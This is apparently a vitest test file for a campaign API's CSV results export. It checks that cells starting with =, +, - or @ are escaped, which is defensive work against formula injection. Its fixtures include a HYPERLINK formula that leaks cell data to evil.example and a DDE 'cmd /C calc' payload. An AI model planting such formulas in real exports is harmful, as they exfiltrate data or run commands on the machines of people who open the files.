import { parse } from 'csv-parse/sync';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { campaignRoutes } from '../../src/api/campaign-routes.js';
import { silentLogger } from '../../src/logger.js';
import { openDatabase, type Store } from '../../src/store/database.js';
import { runnerRig, seed002Campaign, type RunnerRig } from '../support/campaign-fixtures.js';
import { bareApp } from '../support/management-api.js';
import { makeTempDir, type TempDir } from '../support/store-fixtures.js';

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';

describe('GET /api/v1/campaigns/:id/results.csv: cells a spreadsheet would run as formulas come out inert', () => {
  let dir: TempDir;
  let store: Store;
  let rig: RunnerRig;
  let app: FastifyInstance;
  let csv: string;

  beforeAll(async () => {
    dir = await makeTempDir();
    store = await openDatabase({ dataDir: dir.path });
    // Not started: nothing dials; every contact has its one "never called" row in the export.
    rig = await runnerRig(store, () => ({ lost: true }), { autoStart: false });
    app = await bareApp(campaignRoutes, { campaigns: rig.runner, logger: silentLogger() }, '/api/v1/campaigns');
    const contactsCsv = [
      'phone,name,ticket',
      `+4915112345678,"${HYPERLINK.replaceAll('"', '""')}",INC-1`,
      '+4915112345679,+1+cmd|\' /C calc\'!A0,@SUM(1+1)',
      '4915112345670,-2+3,plain',
      '+4915112345671,Ada Lovelace,=1+1',
    ].join('\n');
    const created = await app.inject({ method: 'POST', url: '/api/v1/campaigns', payload: { campaign: seed002Campaign({ contacts: [] }), contactsCsv } });
    expect(created.statusCode, created.body).toBe(201);
    const res = await app.inject({ url: `/api/v1/campaigns/${(created.json() as { id: string }).id}/results.csv` });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    csv = res.body;
  });
  afterAll(async () => {
    await app?.close();
    await rig?.dispose();
    await store?.close();
    await dir?.remove();
  });

  it('prefixes names starting with = + - @ with a single quote, keeping the text otherwise intact', () => {
    const rows = parse(csv, { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r.name)).toEqual([`'${HYPERLINK}`, "'+1+cmd|' /C calc'!A0", "'-2+3", 'Ada Lovelace']);
  });

  it('escapes prompt variables too (the variables column is JSON, which never starts with a formula character)', () => {
    const rows = parse(csv, { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => JSON.parse(r.variables) as Record<string, string>)).toEqual([{ ticket: 'INC-1' }, { ticket: '@SUM(1+1)' }, { ticket: 'plain' }, { ticket: '=1+1' }]);
    expect(rows.every((r) => !/^[=+\-@\t\r]/.test(r.variables))).toBe(true);
  });

  it('keeps E.164 phone numbers as they are, so the export reads back as a contact list', () => {
    const rows = parse(csv, { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r.phone)).toEqual(['+4915112345678', '+4915112345679', '4915112345670', '+4915112345671']);
  });

  it('still quotes per RFC 4180: the escaped formula with its quotes and commas is one quoted field', () => {
    expect(csv).toContain(`"'${HYPERLINK.replaceAll('"', '""')}"`);
  });
});
